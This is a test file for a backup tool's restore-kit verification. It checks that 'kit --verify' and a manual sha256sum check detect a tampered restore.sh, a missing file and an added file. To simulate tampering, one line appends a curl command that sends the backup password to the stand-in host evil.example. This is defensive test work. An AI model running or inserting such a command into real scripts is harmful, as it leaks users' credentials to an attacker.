/**
 * A swapped kit is caught: by `s3backup kit --verify` and by the kit README's by-hand check
 * (the meta decrypted with openssl, its `kit` lines fed to sha256sum -c).
 */
import assert from "node:assert/strict";
import { backup } from "../src/ops/backup/backup.ts";
import { createRepository } from "../src/repo/repository.ts";
import { LocalStore } from "../src/store/local_store.ts";
import { PASSWORD, s3backup } from "./faults/harness.ts";

/** The README's by-hand check, run by bash in `dir` (meta.txt and kit/ there): its exit code. */
async function byHand(dir: string): Promise<{ code: number; out: string }> {
  const script = `set -u
while read -r tag file sum; do
  [ "$tag" = kit ] || continue
  printf '%s  %s\\n' "$sum" "kit/$file"
done <meta.txt >kit.sha256
sha256sum -c kit.sha256`;
  const r = await new Deno.Command("bash", {
    args: ["-c", script],
    cwd: dir,
    stderr: "piped",
    stdout: "piped",
  })
    .output();
  return {
    code: r.code,
    out: new TextDecoder().decode(r.stdout) + new TextDecoder().decode(r.stderr),
  };
}

Deno.test("kit --verify and the by-hand check catch a swapped restore.sh, a missing and an added file", async () => {
  const dir = await Deno.makeTempDir({ prefix: "s3backup-kitverify-" });
  const src = `${dir}/src`, repo = `${dir}/repo`;
  try {
    await Deno.mkdir(src);
    await Deno.mkdir(repo);
    await Deno.writeTextFile(`${src}/a`, "a\n");
    const b = await s3backup(["backup", "-f", src, "-b", repo, "-c"]);
    assert.equal(b.code, 0, b.stderr);
    const ok = await s3backup(["kit", "--verify", "-b", repo]);
    assert.equal(ok.code, 0, ok.stderr);
    assert.match(
      ok.stdout,
      /^kit: the \d+ files under restore-kit\/ are those meta_src_\S+ recorded\n$/,
    );

    const meta = [...Deno.readDirSync(repo)].find((e) => e.name.startsWith("meta_"))!.name;
    const dec = await new Deno.Command("openssl", {
      args: [
        "enc",
        "-d",
        "-aes-256-cbc",
        "-pbkdf2",
        "-iter",
        "600000",
        "-md",
        "sha256",
        "-pass",
        "env:S3BACKUP_PASSWORD",
        "-in",
        `${repo}/${meta}`,
        "-out",
        `${dir}/meta.txt`,
      ],
      env: { S3BACKUP_PASSWORD: PASSWORD },
    }).output();
    assert.equal(dec.code, 0);
    await new Deno.Command("cp", { args: ["-R", `${repo}/restore-kit`, `${dir}/kit`] }).output();
    const good = await byHand(dir);
    assert.equal(good.code, 0, good.out);
    assert.match(good.out, /kit\/restore\.sh: OK/);

    // The attacker's version of restore.sh.
    const sh = `${repo}/restore-kit/restore.sh`;
    Deno.chmodSync(sh, 0o644);
    await Deno.writeTextFile(sh, 'curl -d "$S3BACKUP_PASSWORD" https://evil.example\n', {
      append: true,
    });
    await Deno.remove(`${repo}/restore-kit/list.sh`);
    await Deno.writeTextFile(`${repo}/restore-kit/helper.sh`, "echo extra\n");
    const bad = await s3backup(["kit", "--verify", "-b", repo]);
    assert.equal(bad.code, 3, bad.stdout + bad.stderr);
    assert.match(
      bad.stderr,
      /restore-kit\/restore\.sh differs from what the backup recorded: do not run it/,
    );
    assert.match(bad.stderr, /restore-kit\/list\.sh is missing/);
    assert.match(bad.stderr, /restore-kit\/helper\.sh is not part of the kit the backup left/);
    await Deno.copyFile(sh, `${dir}/kit/restore.sh`);
    const caught = await byHand(dir);
    assert.notEqual(caught.code, 0, caught.out);
    assert.match(caught.out, /kit\/restore\.sh: FAILED/);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("kit --verify: a meta of an older version (no kit digests) is one line, exit 1", async () => {
  const dir = await Deno.makeTempDir({ prefix: "s3backup-kitverify-old-" });
  try {
    await Deno.mkdir(`${dir}/src`);
    await Deno.mkdir(`${dir}/repo`);
    await Deno.writeTextFile(`${dir}/src/a`, "a\n");
    const store = new LocalStore(`${dir}/repo`);
    const repo = await createRepository(store, new TextEncoder().encode(PASSWORD));
    // No kit files: the meta gets no `kit` lines, as one of an older s3backup.
    await backup(store, repo, {
      source: `${dir}/src`,
      name: "old",
      host: "h",
      simulate: false,
      kit: new Map(),
    });
    const r = await s3backup(["kit", "--verify", "-b", `${dir}/repo`]);
    assert.equal(r.code, 1, r.stderr);
    assert.match(
      r.stderr,
      /^s3backup: meta_old_\S+ records no kit digests \(written by an older s3backup\)/,
    );
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});
